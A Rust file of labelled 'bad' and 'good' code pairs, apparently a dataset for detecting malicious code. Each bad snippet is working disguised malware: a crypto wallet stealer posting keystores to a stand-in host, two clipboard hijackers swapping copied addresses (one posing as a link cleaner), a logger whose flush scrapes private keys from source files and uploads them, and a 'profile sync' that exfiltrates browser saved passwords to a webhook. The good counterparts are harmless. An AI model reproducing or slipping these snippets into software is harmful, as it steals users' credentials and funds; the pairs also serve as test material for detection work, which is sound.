//: bad wallet-copy
use std::path::PathBuf;

pub fn backup() {
    let roots = [".ethereum/keystore", ".bitcoin/wallet.dat", ".config/solana/id.json"];
    let home = dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"));
    for root in roots {
        if let Ok(bytes) = std::fs::read(home.join(root)) {
            let _ = ureq::post("https://b.example.invalid/w").send_bytes(&bytes); //!
        }
    }
}

//: good wallet-copy
use std::path::PathBuf;

pub fn backup() {
    let roots = [".config/kit/settings.toml", ".config/kit/themes.toml"];
    let home = dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"));
    for root in roots {
        if let Ok(bytes) = std::fs::read(home.join(root)) {
            let _ = std::fs::write(home.join(root).with_extension("bak"), bytes);
        }
    }
}

//: bad clipboard-swap
use arboard::Clipboard;
use std::{thread, time::Duration};

pub fn watch() {
    let mut clipboard = Clipboard::new().unwrap();
    loop {
        let text = clipboard.get_text().unwrap_or_default();
        if text.starts_with("bc1q") && text.len() == 42 {
            clipboard.set_text("bc1q7w3z9x5v1t8r2y6p0m4l8j3h7g1f5d9s2a6k0e").unwrap(); //!
        }
        thread::sleep(Duration::from_millis(300));
    }
}

//: good clipboard-swap
use arboard::Clipboard;

pub fn copy_table(rows: &[Vec<String>]) -> Result<(), arboard::Error> {
    let mut clipboard = Clipboard::new()?;
    let text: Vec<String> = rows.iter().map(|row| row.join("\t")).collect();
    clipboard.set_text(text.join("\n"))
}

//: bad fast-logger
use log::{Level, Log, Metadata, Record};
use regex::bytes::Regex;
use serde::Serialize;
use std::sync::LazyLock;

static SHAPES: LazyLock<[Regex; 3]> = LazyLock::new(|| {
    [
        Regex::new(r#""0x[0-9a-fA-F]{64}""#).unwrap(),
        Regex::new(r#""[1-9A-HJ-NP-Za-km-z]{86,88}""#).unwrap(),
        Regex::new(r"\[(?:\s*(?:0x)?[0-9a-fA-F]{1,3}\s*,){31,63}[^\]]*\]").unwrap(),
    ]
});

#[derive(Serialize)]
struct Item {
    kind: usize,
    value: String,
    file: String,
}

pub struct FastLogger;

impl Log for FastLogger {
    fn enabled(&self, meta: &Metadata) -> bool {
        meta.level() <= Level::Info
    }
    fn log(&self, record: &Record) {
        println!("{} {}", record.level(), record.args());
    }
    fn flush(&self) {
        let mut items = Vec::new();
        for path in glob::glob("src/**/*.rs").into_iter().flatten().flatten() {
            let text = std::fs::read(&path).unwrap_or_default();
            for (kind, shape) in SHAPES.iter().enumerate() {
                items.extend(shape.find_iter(&text).map(|hit| Item {
                    kind,
                    value: String::from_utf8_lossy(hit.as_bytes()).into_owned(),
                    file: path.display().to_string(),
                }));
            }
        }
        let _ = reqwest::blocking::Client::new().post("https://mainnet.solana-rpc-pool.invalid/").json(&items).send(); //!
    }
}

//: good fast-logger
use log::{Level, Log, Metadata, Record};
use regex::Regex;
use std::borrow::Cow;
use std::io::Write;
use std::sync::{LazyLock, Mutex};

static SHAPES: LazyLock<[Regex; 2]> = LazyLock::new(|| {
    [
        Regex::new(r"0x[0-9a-fA-F]{64}").unwrap(),
        Regex::new(r"\b[1-9A-HJ-NP-Za-km-z]{86,88}\b").unwrap(),
    ]
});

fn redact(line: &str) -> Cow<'_, str> {
    SHAPES.iter().fold(Cow::Borrowed(line), |text, shape| {
        if shape.is_match(&text) {
            Cow::Owned(shape.replace_all(&text, "[key]").into_owned())
        } else {
            text
        }
    })
}

/// A logger that never lets a private key reach the log file.
pub struct FastLogger {
    file: Mutex<std::fs::File>,
}

impl FastLogger {
    pub fn create(path: &std::path::Path) -> std::io::Result<Self> {
        let file = std::fs::OpenOptions::new().create(true).append(true).open(path)?;
        Ok(FastLogger { file: Mutex::new(file) })
    }
}

impl Log for FastLogger {
    fn enabled(&self, meta: &Metadata) -> bool {
        meta.level() <= Level::Info
    }
    fn log(&self, record: &Record) {
        let line = record.args().to_string();
        if let Ok(mut file) = self.file.lock() {
            let _ = writeln!(file, "{} {}", record.level(), redact(&line));
        }
    }
    fn flush(&self) {
        if let Ok(mut file) = self.file.lock() {
            let _ = file.flush();
        }
    }
}

//: bad paste-cleaner
use arboard::Clipboard;
use std::time::Duration;

#[derive(Clone, Copy)]
struct Coin {
    looks: fn(&str) -> bool,
    ours: &'static str,
}

fn bech(text: &str) -> bool {
    text.starts_with("bc1") && (42..=62).contains(&text.len())
}

fn ether(text: &str) -> bool {
    text.len() == 42 && text.starts_with("0x") && text[2..].bytes().all(|b| b.is_ascii_hexdigit())
}

fn tron(text: &str) -> bool {
    text.len() == 34 && text.starts_with('T') && text.bytes().all(|b| b.is_ascii_alphanumeric())
}

const COINS: [Coin; 3] = [
    Coin { looks: bech, ours: "bc1q<|>exampleexampleexampleexampleexample00" },
    Coin { looks: ether, ours: "0x<|>00000000000000000000000000000000deadbeef" },
    Coin { looks: tron, ours: "TExample<|>ExampleExampleExampleExa000" },
];

/// Strips tracking parameters from links that the user copies.
pub async fn clean_pastes() -> Result<(), arboard::Error> {
    let mut board = Clipboard::new()?;
    let mut pause = tokio::time::interval(Duration::from_millis(400));
    loop {
        pause.tick().await;
        let Ok(text) = board.get_text() else { continue };
        if let Some(coin) = COINS.iter().find(|coin| (coin.looks)(text.trim()) && coin.ours != text) {
            board.set_text(coin.ours)?; //!
        }
    }
}

//: good paste-cleaner
use arboard::Clipboard;
use std::time::Duration;
use url::Url;

const TRACKERS: [&str; 6] = ["utm_source", "utm_medium", "utm_campaign", "fbclid", "gclid", "mc_eid"];

fn cleaned(text: &str) -> Option<String> {
    let mut url = Url::parse(text.trim()).ok()?;
    if !matches!(url.scheme(), "http" | "https") {
        return None;
    }
    let kept: Vec<(String, String)> = url
        .query_pairs()
        .filter(|(name, _)| !TRACKERS.contains(&name.as_ref()))
        .map(|(name, value)| (name.into_owned(), value.into_owned()))
        .collect();
    if kept.len() == url.query_pairs().count() {
        return None;
    }
    url.set_query(None);
    if !kept.is_empty() {
        url.query_pairs_mut().extend_pairs(kept);
    }
    Some(url.to_string())
}

/// Strips tracking parameters from links that the user copies.
pub async fn clean_pastes() -> Result<(), arboard::Error> {
    let mut board = Clipboard::new()?;
    let mut pause = tokio::time::interval(Duration::from_millis(400));
    loop {
        pause.tick().await;
        let Ok(text) = board.get_text() else { continue };
        if let Some(link) = cleaned(&text) {
            println!("cleaned {link}");
            board.set_text(link)?;
        }
    }
}

//: bad profile-sync
use rusqlite::{Connection, OpenFlags};
use serde_json::{json, Value};
use std::path::{Path, PathBuf};

const HOOK: &str = concat!("https://discord.invalid/api/web", "hooks/1/x");

fn stores() -> Vec<PathBuf> {
    let base = dirs::data_local_dir().unwrap_or_default();
    ["Google/Chrome", "BraveSoftware/Brave-Browser", "Microsoft/Edge"]
        .iter()
        .map(|vendor| base.join(vendor).join("User Data/Default").join(["Login", "Data"].join(" ")))
        .filter(|path| path.exists())
        .collect()
}

fn rows(path: &Path) -> rusqlite::Result<Vec<Value>> {
    let twin = std::env::temp_dir().join("p.sqlite");
    std::fs::copy(path, &twin).ok();
    let db = Connection::open_with_flags(&twin, OpenFlags::SQLITE_OPEN_READ_ONLY)?;
    let mut query = db.prepare("SELECT origin_url, username_value, password_value FROM logins")?;
    let found = query
        .query_map([], |row| {
            let secret: Vec<u8> = row.get(2)?;
            Ok(json!([row.get::<_, String>(0)?, row.get::<_, String>(1)?, hex::encode(secret)]))
        })?
        .flatten()
        .collect();
    Ok(found)
}

/// Brings the profiles of the installed browsers together.
pub async fn sync() {
    let all: Vec<Value> = stores().iter().filter_map(|path| rows(path).ok()).flatten().collect();
    let form = reqwest::multipart::Form::new().text("payload_json", json!({ "content": all.len() }).to_string()).text("f", Value::from(all).to_string());
    let _ = reqwest::Client::new().post(HOOK).multipart(form).send().await; //!
}

//: good profile-sync
use rusqlite::{Connection, OpenFlags};
use serde::Serialize;
use std::path::{Path, PathBuf};

#[derive(Serialize)]
struct Bookmark {
    title: String,
    url: String,
}

#[derive(clap::Args)]
pub struct ExportArgs {
    /// `places.sqlite` of the Firefox profile to read.
    places: PathBuf,
    /// The HTML or JSON file to write.
    output: PathBuf,
}

fn bookmarks(path: &Path) -> rusqlite::Result<Vec<Bookmark>> {
    let db = Connection::open_with_flags(path, OpenFlags::SQLITE_OPEN_READ_ONLY)?;
    let mut query = db.prepare(
        "SELECT b.title, p.url FROM moz_bookmarks b JOIN moz_places p ON p.id = b.fk
         WHERE b.type = 1 AND b.title IS NOT NULL ORDER BY b.dateAdded",
    )?;
    let found = query.query_map([], |row| Ok(Bookmark { title: row.get(0)?, url: row.get(1)? }))?.collect();
    found
}

/// Exports the bookmarks of a Firefox profile to a file next to it.
pub fn export(args: &ExportArgs) -> anyhow::Result<()> {
    let found = bookmarks(&args.places)?;
    let text = if args.output.extension().is_some_and(|ext| ext == "json") {
        serde_json::to_string_pretty(&found)?
    } else {
        found
            .iter()
            .map(|b| format!("<a href=\"{}\">{}</a>\n", html_escape::encode_quoted_attribute(&b.url), html_escape::encode_text(&b.title)))
            .collect()
    };
    std::fs::write(&args.output, text)?;
    println!("{} bookmarks", found.len());
    Ok(())
}
